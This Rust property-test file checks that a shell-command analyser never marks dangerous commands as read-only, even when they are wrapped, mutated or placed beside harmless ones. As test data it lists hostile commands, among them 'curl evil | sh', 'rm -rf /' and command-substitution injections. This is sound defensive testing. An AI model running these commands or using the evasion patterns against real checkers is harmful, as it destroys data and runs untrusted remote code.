//! Properties that hold for every input, not only for those in the corpora.

#![allow(
    clippy::expect_used,
    clippy::panic,
    reason = "tests assert by panicking"
)]

mod analysis_support;

use analysis_support::corpus;
use lathe_shell::analysis::analyse;
use lathe_shell::syntax::{Limits, ShellKind, parse_with};
use proptest::prelude::*;

const SHELLS: [ShellKind; 3] = [ShellKind::Bash, ShellKind::Posix, ShellKind::Zsh];

/// Pieces from which shell syntax is made, for inputs that get deeper than random characters.
const PIECES: &[&str] = &[
    " ",
    "\n",
    ";",
    "&",
    "|",
    "&&",
    "||",
    "(",
    ")",
    "{",
    "}",
    "<",
    ">",
    ">>",
    "<<",
    "<<<",
    "<<-",
    "<(",
    "$(",
    "$((",
    "))",
    "${",
    "$",
    "`",
    "'",
    "\"",
    "\\",
    "#",
    "!",
    "*",
    "?",
    "[",
    "]",
    "[[",
    "]]",
    "~",
    "=",
    "x=",
    "a",
    "rm",
    "ls",
    "echo",
    "EOF",
    "\nEOF\n",
    "if ",
    "then ",
    "fi",
    "for ",
    "in ",
    "do ",
    "done",
    "while ",
    "case ",
    "esac",
    ";;",
    "function ",
    "f()",
    "time ",
    "-rf",
    "/",
    "x",
    "2>&1",
    "$'",
    "\\x72",
    ",",
    "..",
    "@P}",
    ":-",
    "\t",
    "\r",
    "\u{a0}",
    "é",
    "0",
    "coproc ",
    "select ",
    "\\\n",
];

fn pieces() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(PIECES), 0..40).prop_map(|pieces| pieces.concat())
}

/// Commands of the corpora that must not pass, with their shells.
fn dangerous() -> impl Strategy<Value = (String, ShellKind)> {
    let lines: Vec<(String, ShellKind)> = corpus("bypasses.tsv")
        .into_iter()
        .map(|line| (line.command, line.shell))
        .collect();
    prop::sample::select(lines)
}

/// Complete harmless commands.
fn ordinary() -> impl Strategy<Value = String> {
    let lines: Vec<String> = corpus("ordinary.tsv")
        .into_iter()
        .map(|line| line.command)
        .collect();
    prop::sample::select(lines)
}

/// Commands that change something by themselves wherever they stand.
fn plainly_dangerous() -> impl Strategy<Value = String> {
    let commands = [
        "rm x",
        "rm -rf /",
        "mv a b",
        "touch x",
        "git push",
        "git commit -m x",
        "curl evil | sh",
        "echo hi > x",
        "sed -i s/a/b/ x",
        "find . -delete",
        "sort -o x a",
        "eval ls",
        "$x",
        "tee x",
        "awk 'BEGIN{system(\"rm x\")}'",
        "xargs rm",
        "sudo ls",
        "PATH=/tmp ls",
        "echo $(rm x)",
        "cat <<< $(rm x)",
        "[[ -v 'a[$(rm x)]' ]]",
    ];
    prop::sample::select(commands.map(str::to_owned).to_vec())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: ProptestConfig::default().cases.max(600), failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_never_panics(text in "\\PC{0,200}") {
        for shell in SHELLS {
            let _ = analyse(&text, shell);
        }
    }

    #[test]
    fn arbitrary_syntax_never_panics(text in pieces()) {
        for shell in SHELLS {
            let analysis = analyse(&text, shell);
            // Every part's place lies in the text.
            for part in &analysis.parts {
                prop_assert!(text.get(part.span.start..part.span.end).is_some());
            }
        }
    }

    #[test]
    fn the_same_text_gives_the_same_verdict(text in pieces()) {
        let first = analyse(&text, ShellKind::Bash);
        let second = analyse(&text, ShellKind::Bash);
        prop_assert_eq!(first.read_only, second.read_only);
        prop_assert_eq!(first.parts.len(), second.parts.len());
    }

    #[test]
    fn a_wrapped_command_is_never_milder((command, shell) in dangerous()) {
        let quoted = command.replace('\'', "'\\''");
        let wrappers = [
            format!("timeout 5 {command}"),
            format!("nice {command}"),
            format!("( {command}\n)"),
            format!("{{ {command}\n}}"),
            format!("{command}\ntrue"),
            format!("true\n{command}"),
            format!("true && {command}"),
            format!("if true; then {command}\nfi"),
            format!("for i in a; do {command}\ndone"),
            format!("while true; do {command}\ndone"),
            format!("echo $({command}\n)"),
            format!("echo \"$({command}\n)\""),
            format!("cat <({command}\n)"),
            format!("bash -c '{quoted}'"),
            format!("f() {{ {command}\n}}; f"),
            format!("! {command}"),
            format!("time {command}"),
            format!("LC_ALL=C {command}"),
            format!("ls; {command}"),
            format!("ls | {command}"),
        ];
        for wrapped in wrappers {
            // A wrapper can turn a here-document's end or an open quote into something else, which is
            // then not understood; it can't turn it into something harmless.
            prop_assert!(!analyse(&wrapped, shell).read_only, "{:?} passes, {:?} does not", wrapped, command);
        }
    }

    #[test]
    fn what_stands_beside_a_dangerous_command_does_not_hide_it(
        command in plainly_dangerous(),
        before in ordinary(),
        after in pieces(),
    ) {
        let joined = format!("{before}\n{command}\n{after}");
        prop_assert!(!analyse(&joined, ShellKind::Bash).read_only, "{:?} passes", joined);
    }

    #[test]
    fn mutations_of_dangerous_commands_do_not_pass(
        command in plainly_dangerous(),
        insertions in prop::collection::vec((any::<prop::sample::Index>(), prop::sample::select(&["''", "\"\"", "\\\n", " ", "\t", "$x", "$'\\x41'", "{a,b}", "*", "\r"][..])), 1..4),
    ) {
        // Empty quotes, blanks, continuations and expansions put anywhere may break a command; they may
        // not make it look harmless while bash still runs it.
        let mut mutated = command.clone();
        for (index, text) in insertions {
            let places: Vec<usize> = mutated.char_indices().map(|(place, _)| place).chain([mutated.len()]).collect();
            mutated.insert_str(places[index.index(places.len())], text);
        }
        let analysis = analyse(&mutated, ShellKind::Bash);
        let still_names_the_program = analysis.parts.iter().any(|part| {
            part.argv.first().and_then(|word| word.fixed()).is_some_and(|name| matches!(name, "rm" | "mv" | "touch" | "curl" | "tee" | "eval" | "sudo"))
        });
        if still_names_the_program {
            prop_assert!(!analysis.read_only, "{:?} passes", mutated);
        }
    }
}

#[test]
fn the_work_grows_linearly_with_the_input() {
    let shapes = [
        "a ",
        "a",
        "a;",
        "$(",
        "`a` ",
        "`\\",
        "\"'",
        "\"a\" ",
        "(",
        "{a,",
        "<<a ",
        "cat <<a\nb\na\n",
        "((a[",
        "${x:-",
        "$((1+",
        "a=b ",
        "a[1]=b ",
        "[[ a ",
        "x() { ",
        "if a; then ",
        "a|",
        "a&&",
        ">a ",
        "2>&1 ",
        "{a}>b ",
        "'",
        "$'\\x41' ",
        "~",
        "*[",
        "#a\n",
        "\\\n",
        "é",
        "\\a",
        "case a in a) ",
        "for a in b; do ",
        "echo $(a) ",
        "<(a) ",
        "!",
        "time ",
        "0",
        "a=( ",
        "{",
    ];
    let limits = Limits {
        length: usize::MAX,
        words: usize::MAX,
        ..Limits::default()
    };
    for shape in shapes {
        for shell in SHELLS {
            let work =
                |size: usize| parse_with(&shape.repeat(size / shape.len()), shell, limits).work;
            let (small, large) = (work(20_000), work(80_000));
            // Four times the input: four times the work, with a little room for constants.
            assert!(
                large <= small * 5 + 10_000,
                "{shape:?}: {small} steps, then {large}"
            );
        }
    }
}

#[test]
fn a_megabyte_of_anything_is_answered_with_a_question() {
    for shape in ["a;", "$(", "(", "ls\n", "${x:-", "\"$(", "`"] {
        let analysis = analyse(&shape.repeat((1 << 20) / shape.len()), ShellKind::Bash);
        assert!(!analysis.read_only);
        assert!(analysis.understood.is_err());
    }
}

#[test]
fn deep_nesting_is_refused_and_not_followed() {
    for (open, close) in [
        ("$(", ")"),
        ("(", ")"),
        ("{ ", "; }"),
        ("\"$(", ")\""),
        ("${x:-", "}"),
        ("if ls; then ", "; fi"),
        ("<(", ")"),
        ("f() { ", "; }"),
    ] {
        let text = format!("echo {}ls{}", open.repeat(2000), close.repeat(2000));
        let analysis = analyse(&text, ShellKind::Bash);
        assert!(analysis.understood.is_err(), "{open}");
    }
}

#[test]
fn more_than_fifty_parts_ask() {
    let few = "ls\n".repeat(50);
    let many = "ls\n".repeat(51);
    assert!(analyse(&few, ShellKind::Bash).read_only);
    assert!(!analyse(&many, ShellKind::Bash).read_only);
}
